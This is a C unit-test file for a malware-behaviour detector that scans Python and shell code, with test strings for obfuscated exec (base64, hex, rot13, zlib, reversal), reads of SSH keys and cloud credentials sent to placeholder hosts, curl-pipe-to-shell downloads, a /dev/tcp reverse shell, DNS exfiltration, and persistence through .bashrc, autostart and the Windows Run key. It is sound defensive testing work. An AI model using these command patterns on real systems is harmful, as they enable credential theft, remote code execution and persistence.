/* What source does: behaviours and chains, through everything that hides them. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "base/buf.h"
#include "base/escape.h"
#include "code/behaviour/read.h"

enum { TEXT_MAX = 64 << 10, LARGE = 1 << 20 };

struct seen {
	struct buf text;
	bool all;
};

/* "2 decode>run-code", "2 secret-read.ssh>encode>network.chat", "3 spawn 'true'"; what follows a
 * '+' is the layer, and scopes are told but for the top. */
static void on_behaviour(void *context, const struct behaviour *b)
{
	static const char *const scopes[] = { "", " class", " function" };
	struct seen *seen = context;
	struct buf *out = &seen->text;

	if (b->class != BEHAVIOUR_CHAIN && !seen->all)
		return;
	buf_printf(out, "%llu", (unsigned long long)b->line);
	buf_str(out, scopes[b->scope]);
	if (b->layer)
		buf_printf(out, "+%u", b->layer);
	buf_byte(out, ' ');
	if (b->class == BEHAVIOUR_CHAIN) {
		buf_printf(out, "%s%s%s>", behaviour_word(b->source), b->source_kind ? "." : "",
			   b->source_kind ? b->source_kind : "");
		if (b->transform)
			buf_printf(out, "%s>", behaviour_word(b->transform));
	}
	buf_str(out, behaviour_word(b->class == BEHAVIOUR_CHAIN ? b->sink : b->class));
	if (b->kind)
		buf_printf(out, ".%s", b->kind);
	if (b->class != BEHAVIOUR_CHAIN && b->detail.n) {
		buf_str(out, " '");
		escape_text(out, b->detail);
		buf_byte(out, '\'');
	}
	buf_byte(out, '\n');
}

static struct code_end read_as(const struct behaviour_language *language, struct span source,
			       struct seen *seen)
{
	struct arena arena;
	const struct behaviour_sink sink = { on_behaviour, seen };
	struct code_end end;

	arena_init(&arena, MiB(24), NULL, NULL);
	buf_init(&seen->text, TEXT_MAX);
	end = behaviours_read(behaviours_new(&arena, &sink), language, source, 0, 1);
	arena_free(&arena);
	return end;
}

static void expect_of(const struct behaviour_language *language, const char *source,
		      const char *expected, bool all)
{
	struct seen seen = { .all = all };

	assert_false(read_as(language, span_str(source), &seen).full);
	assert_string_equal(buf_text(&seen.text), expected);
	buf_free(&seen.text);
}

/* Chains of Python. */
static void chains(const char *source, const char *expected)
{
	expect_of(&behaviour_python, source, expected, false);
}

static void all(const char *source, const char *expected)
{
	expect_of(&behaviour_python, source, expected, true);
}

static void words_are_found(void **state)
{
	(void)state;
	for (enum behaviour_class i = BEHAVIOUR_NONE + 1; i < BEHAVIOUR_COUNT; i++)
		assert_int_equal(behaviour_find(span_str(behaviour_word(i))), i);
	assert_int_equal(behaviour_find(span_str("nothing")), BEHAVIOUR_NONE);
}

/* In all of them stands: import os; os.system('true') */
#define CODE   "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3RydWUnKQ=="
#define HEX    "696d706f7274206f733b206f732e73797374656d2827747275652729"
#define BACK   "==QDKYHmA0UdUJtoSWfDcRtkirs49KmB2+CyRpyLI3CzLrNe"
#define PACKED "eNrLzC3ILypRyC+2BmK94sriktRcDfWSotJUdU0AmHYKDQ=="

static void code_is_unfolded(void **state)
{
	static const char *const hidden[] = {
		"import base64\nexec(base64.b64decode('" CODE "'))",
		"from base64 import b64decode as d\nexec(d(b'" CODE "').decode())",
		"import base64\nexec(compile(base64.b64decode('" CODE "'), 'x', 'exec'))",
		"\nexec(bytes.fromhex('" HEX "'))",
		"import codecs\nexec(codecs.decode('" HEX "', 'hex'))",
		"import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\\'gehr\\')', 'rot13'))",
		"import base64, zlib\nexec(zlib.decompress(base64.b64decode('" PACKED "')))",
		"\nexec(__import__('zlib').decompress(__import__('base64').b64decode('" PACKED
		"')))",
		"import base64\nexec(base64.b64decode('" CODE "'[::1]))",
		"x = ')\\'eurt\\'(metsys.so ;so tropmi'\nexec(x[::-1])",
		"\nexec(''.join(reversed(')\\'eurt\\'(metsys.so ;so tropmi')))",
		"import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('" CODE "'))",
		"import base64\n__builtins__.__dict__['exec'](base64.b64decode('" CODE "'))",
		"import base64\nglobals()['__builtins__'].exec(base64.b64decode('" CODE "'))",
		"import base64\neval('exec')(base64.b64decode('" CODE "'))",
		"import base64\n(lambda f, x: f(x))(exec, base64.b64decode('" CODE "'))",
		"import base64\n(run := exec)(base64.b64decode('" CODE "'))",
		"import base64\nf = {'a': exec}; f['a'](base64.b64decode('" CODE "'))",
		"import base64\nlist(map(exec, [base64.b64decode('" CODE "')]))",
		"import base64, threading\nthreading.Thread(target=exec, "
		"args=(base64.b64decode('" CODE "'),)).start()",
		"import base64 as b\nexec(b.b64decode('%s%s' % ('" CODE "'[:8], '" CODE "'[8:])))",
		"a, b = 'aW1wb3J0IG9zOyBvcy5ze', 'XN0ZW0oJ3RydWUnKQ=='; import base64\n"
		"exec(base64.b64decode(f'{a}{b}'))",
		"import base64\nexec(base64.b64decode(' '.join(['" CODE "'])))",
		"import base64\nexec(base64.b64decode('#" CODE "'.replace('#', '').strip()))",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(hidden) / sizeof(*hidden); i++) {
		struct seen seen = { .all = true };

		(void)read_as(&behaviour_python, span_str(hidden[i]), &seen);
		if (!strstr(buf_text(&seen.text), "+1 spawn 'true'\n") ||
		    !strstr(buf_text(&seen.text), "2 decode>run-code\n"))
			fail_msg("%s\ngives\n%s", hidden[i], buf_text(&seen.text));
		buf_free(&seen.text);
	}
}

static void numbers_are_characters(void **state)
{
	(void)state;
	all("exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))",
	    "1 run-code.constant 'import os'\n1 decode>run-code\n");
	all("exec(''.join(map(chr, [111+1, 114, 105, 0x6e, 116, 40, 41])))",
	    "1 run-code.constant 'print()'\n1 decode>run-code\n");
	chains("x = bytes([c ^ 3 for c in b'sqjmw+*'])\nexec(x)", "2 decode>run-code\n");
	chains("exec(''.join([chr(ord(c) - 1) for c in 'qsjou)*']))", "1 decode>run-code\n");
	chains("exec(bytes(c for c in (112, 114, 105, 110, 116, 40, 41)).decode())", "");
	chains("h = '7072696e742829'\nexec(''.join(chr(int(h[i:i+2], 16)) for i in range(0, "
	       "len(h), "
	       "2)))",
	       "2 decode>run-code\n");
}

/* More values than are kept: one of several, none of which is. */
static void full_scopes_are_read_on(void **state)
{
	struct seen seen = { .all = true };
	struct buf source;

	(void)state;
	buf_init(&source, MiB(4));
	for (int i = 0; i < 600; i++) {
		buf_printf(&source, "v%d = [", i);
		for (int k = 0; k < 60; k++)
			buf_printf(&source, "'%d', ", k);
		buf_str(&source, "]\n");
	}
	buf_str(&source,
		"if x:\n    f = print\nelse:\n    f = eval\nf('1')\nimport os\nos.system('a')\n");
	(void)read_as(&behaviour_python, buf_view(&source), &seen);
	assert_string_equal(buf_text(&seen.text), "607 spawn 'a'\n");
	buf_free(&seen.text);
	buf_free(&source);
}

/* A name in a text, called at once. */
static void names_in_texts_are_told(void **state)
{
	(void)state;
	all("__import__('os').system('a')", "1 hide.name\n1 spawn 'a'\n");
	all("import os\ngetattr(os, 'sys' + 'tem')('a')", "2 hide.name\n2 spawn 'a'\n");
	all("m = __import__('os')\nm.system('a')", "2 spawn 'a'\n");
	all("import os\nos.system(getattr(x, 'y'))", "2 spawn\n");
	all("__import__('os').path.join('a')", "");
	all("import base64\n__import__(base64.b64decode('c3VicHJvY2Vzcw==').decode())",
	    "2 decode>run-code.module\n");
}

/* A file's own decoder, and functions that do the parts. */
static void calls_are_followed(void **state)
{
	(void)state;
	chains("import base64\ndef d(s):\n return base64.b64decode(s).decode()\nexec(d('" CODE
	       "'))",
	       "4 decode>run-code\n");
	chains("_ = lambda __: "
	       "__import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
	       "exec(_('" BACK "'))",
	       "2 decode>run-code\n");
	chains("import os, requests\ndef read():\n return "
	       "open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
	       "def send(d):\n requests.post('https://example.invalid', data=d)\nsend(read())",
	       "5 secret-read.ssh>network\n");
	chains("import requests\nclass A:\n def run(self):\n  self.send(self.read())\n"
	       " def read(self):\n  return open('/root/.aws/credentials').read()\n"
	       " def send(self, d):\n  requests.post('https://example.invalid', data=d)\n",
	       "8 function secret-read.cloud>network\n");
	chains("import requests\ndef main():\n go()\ndef go():\n "
	       "exec(requests.get('https://example.invalid').text)\n"
	       "if __name__ == '__main__':\n main()",
	       "5 function download>run-code\n");
}

static void values_are_followed(void **state)
{
	(void)state;
	chains("import os, requests, json\nd = {}\nd['e'] = dict(os.environ)\n"
	       "requests.post('https://discord.com/api/webhooks/1/x', json=json.dumps(d))",
	       "4 enumerate.environment>network.chat\n");
	chains("import socket, base64, requests\nl = []\nl.append(socket.gethostname())\n"
	       "requests.get('https://x.oast.fun/?' + "
	       "base64.b64encode(','.join(l).encode()).decode())",
	       "4 enumerate.host>encode>network.collector\n");
	chains("import urllib.request, os, subprocess\np = os.path.join('/tmp', 'x')\n"
	       "with open(p, 'wb') as f:\n "
	       "f.write(urllib.request.urlopen('https://example.invalid/x').read())\n"
	       "os.chmod(p, 0o755)\nsubprocess.Popen([p])",
	       "6 download>spawn\n");
	chains("import os\nos.environ['HOME']; os.environ.get('PATH')", "");
	chains("import os, requests\nt = "
	       "os.environ['API_TOKEN']\nrequests.get('https://example.invalid', headers={'a': t})",
	       "3 secret-read.environment>network\n");
	chains("import socket, os, subprocess\ns = socket.socket()\ns.connect(('example.invalid', "
	       "1))\n"
	       "os.dup2(s.fileno(), 0)\nsubprocess.call(['true'])",
	       "5 download.socket>run-code.reverse-shell\n");
	chains("import "
	       "marshal\nexec(marshal.loads(b'\\xe3'))\nexec(marshal.loads(open('x').read()))",
	       "2 decode.marshal>run-code\n");
}

static void places_are_known(void **state)
{
	(void)state;
	all("import os\nopen(os.path.expanduser('~/.claude/settings.json'), 'w').write('x')",
	    "2 agent-write '~/.claude/settings.json'\n");
	all("from pathlib import Path\n(Path.home() / '.bashrc').write_text('true')",
	    "2 persist.shell '~/.bashrc'\n");
	all("open('C:\\\\Users\\\\x\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Local "
	    "State')",
	    "1 secret-read.browser 'C:\\Users\\x\\AppData\\Local\\Google\\Chrome\\User Data\\Local "
	    "State'\n");
	all("open('/proc/%d/mem' % 4, 'rb')", "1 memory-read '/proc//mem'\n");
	all("open('README.md'); open('.env.example'); open('src/.envrc')", "");
	all("import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')",
	    "2 metadata-service 'http://169.254.169.254/latest/meta-data/'\n"
	    "2 download 'http://169.254.169.254/latest/meta-data/'\n");
	all("import winreg\nwinreg.SetValueEx(k, "
	    "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0)",
	    "2 persist.registry 'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n");
}

static void commands_are_read(void **state)
{
	(void)state;
	chains("import os\nos.system('curl -s https://example.invalid/x | bash')",
	       "2 download>run-code\n");
	chains("import subprocess as s\ns.run(['bash', '-c', 'wget -qO- https://example.invalid/x "
	       "| sh'])",
	       "2 download>run-code\n");
	chains("import os\nos.system('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')",
	       "2 download.socket>run-code.reverse-shell\n");
	chains("import os\nos.popen('echo dHJ1ZSA+IC9kZXYvbnVsbAo= | base64 -d | sh')",
	       "2 decode>run-code\n");
	chains("import os\nos.system('powershell -enc "
	       "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA')",
	       "2+1 decode>run-code\n2+1 download>decode>run-code\n");
	chains("import os\nos.system('curl -o /tmp/x https://example.invalid/x && chmod +x /tmp/x "
	       "&& /tmp/x')",
	       "2 download>spawn\n");
	chains("import os\nos.system('curl -d @/root/.ssh/id_rsa https://example.invalid')",
	       "2 secret-read.ssh>network\n");
	chains("import os\nos.system('nslookup $(whoami).example.invalid')",
	       "2 enumerate.users>network.dns\n");
	all("import os\nos.system('npm publish')",
	    "2 spawn 'npm publish'\n2 self-publish 'npm publish'\n");
	expect_of(&behaviour_shell, "set -e\nX=https://example.invalid/x\ncurl -fsSL $X | sh\n",
		  "3 download>run-code\n", false);
	expect_of(&behaviour_shell, "sh -c \"$(curl -fsSL https://example.invalid/x)\"\n",
		  "1 download>run-code\n", false);
	expect_of(&behaviour_shell, "cp x ~/.config/autostart/x.desktop\n",
		  "1 persist.autostart '~/.config/autostart/x.desktop'\n", true);
}

/* What honest programs do. */
static void sessions_of_their_own_are_told(void **state)
{
	(void)state;
	all("import subprocess\nsubprocess.Popen(['true'], start_new_session=True)",
	    "2 hide.detach\n2 spawn 'true'\n");
	all("import os, subprocess\nsubprocess.Popen(['true'], preexec_fn=os.setsid)",
	    "2 hide.detach\n2 spawn 'true'\n");
	all("import os, subprocess\nsubprocess.Popen(['true'], preexec_fn=os.nice)",
	    "2 spawn 'true'\n");
}

static void honest_code_is_silent(void **state)
{
	static const char *const honest[] = {
		"import subprocess\nsubprocess.run(['git', 'describe'])",
		"exec(open('version.py').read())",
		"import base64, json\njson.loads(base64.b64decode(open('x').read()))",
		"from collections import namedtuple\nexec('a = 1')",
		"import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ, A='b'))",
		"import requests\nopen('x.tar.gz', "
		"'wb').write(requests.get('https://example.invalid/x').content)",
		"import socket\nsocket.gethostbyname(socket.gethostname())",
		"import requests, platform\nrequests.get('https://example.invalid', headers={'ua': "
		"platform.system()})",
		"x = ''.join(chr(c) for c in range(97, 123))\nprint(x)",
		"import pickle\npickle.loads(open('x', 'rb').read())",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(honest) / sizeof(*honest); i++)
		chains(honest[i], "");
}

/* Time and memory have bounds, whatever is written. */

static void read_large(const char *piece, const char *end)
{
	struct seen seen = { .all = true };
	struct buf text;

	buf_init(&text, LARGE + 4096);
	buf_str(&text, "import base64\nf = lambda x: f(x) + f(base64.b64decode(x))\n");
	while (text.n < LARGE)
		buf_str(&text, piece);
	buf_str(&text, end);
	(void)read_as(&behaviour_python, buf_view(&text), &seen);
	buf_free(&text);
	buf_free(&seen.text);
}

static void nothing_takes_long(void **state)
{
	(void)state;
	read_large("f('aaaaaaaa')\n", "");
	read_large("exec(base64.b64decode('cHJpbnQoJ2FhYWEnKQ=='))\n", "");
	read_large("[chr(x) for x in range(60000)]\n", "");
	read_large("def g(x):\n return g(g(x)) + base64.b64decode(g(x))\ng('aaaaaaaaa')\n", "");
	read_large("x = x + 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n", "exec(x)\n");
	read_large("os.system('curl x | sh | sh | sh')\n", "");
	read_large("eval('eval(\"eval(1)\")')\n", "");
	read_large("(lambda a: (lambda b: (lambda c: c)(b))(a))('aaaa')\n", "");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(words_are_found),
		cmocka_unit_test(code_is_unfolded),
		cmocka_unit_test(numbers_are_characters),
		cmocka_unit_test(full_scopes_are_read_on),
		cmocka_unit_test(names_in_texts_are_told),
		cmocka_unit_test(calls_are_followed),
		cmocka_unit_test(values_are_followed),
		cmocka_unit_test(places_are_known),
		cmocka_unit_test(commands_are_read),
		cmocka_unit_test(honest_code_is_silent),
		cmocka_unit_test(nothing_takes_long),
		cmocka_unit_test(sessions_of_their_own_are_told),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
